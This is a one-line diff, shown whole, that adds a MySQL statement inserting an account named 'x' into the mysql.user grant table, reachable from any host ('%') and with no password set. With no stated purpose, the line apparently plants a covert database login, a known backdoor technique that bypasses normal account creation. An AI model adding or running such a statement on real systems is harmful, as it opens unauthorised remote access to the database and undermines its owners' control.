@@ -1,0 +1,1 @@
+INSERT IGNORE INTO mysql.user (host,user) VALUES ('%','x')
